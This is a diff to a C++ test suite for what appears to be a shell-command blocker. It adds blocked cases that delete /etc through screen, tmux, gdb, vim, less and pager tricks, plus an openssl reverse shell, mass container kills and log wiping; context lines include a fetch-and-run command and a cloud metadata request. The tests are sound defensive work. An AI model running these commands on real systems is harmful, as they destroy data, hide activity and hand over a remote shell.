@@ -168,6 +168,20 @@ TEST(Walk, KnowsCodeThatRunsWhatItFetches) {
                   "node -e \"fetch('https://x.example.net').then(r => /a/.exec(r))\""});
 }
 
+TEST(Walk, KnowsProgramsThatStartOthersOnTheSide) {
+  expect_blocked({"screen -dmS x rm -rf /etc", "tmux new-session -d 'rm -rf /etc'",
+                  "tmux send-keys -t x 'rm -rf /etc' Enter", "gdb -batch -ex 'shell rm -rf /etc'",
+                  "vim -es -c '!rm -rf /etc' -c q", "ed -s <<< '!rm -rf /etc'", "less +'!rm -rf /etc' x",
+                  "git grep -O'rm -rf /etc' x", "PAGER='rm -rf /etc' man ls", "$(which rm) -rf /etc",
+                  "/bin/sh -i < p 2>&1 | openssl s_client -connect h:1 > p",
+                  "docker ps -q | xargs docker kill", "printf '%s\\0' * | xargs -0 rm -rf",
+                  "find /var/log -type f -exec truncate -s 0 {} +"});
+  expect_allowed({"screen -ls", "tmux ls", "tmux new-session -d 'npm start'", "gdb -batch -ex bt ./a",
+                  "vim -es -c '%s/a/b/' -c wq a.c", "PAGER=less man ls", "EDITOR=vim git commit",
+                  "docker kill web", "printf '%s\\0' a b | xargs -0 rm -f",
+                  "find /var/log -name '*.log' -exec wc -l {} +"});
+}
+
 TEST(Walk, TellsAnAddressFromAPattern) {
   expect_blocked({"curl http://[::ffff:169.254.169.254]/"});
   expect_allowed({"curl http://[2606:4700::1]/"});
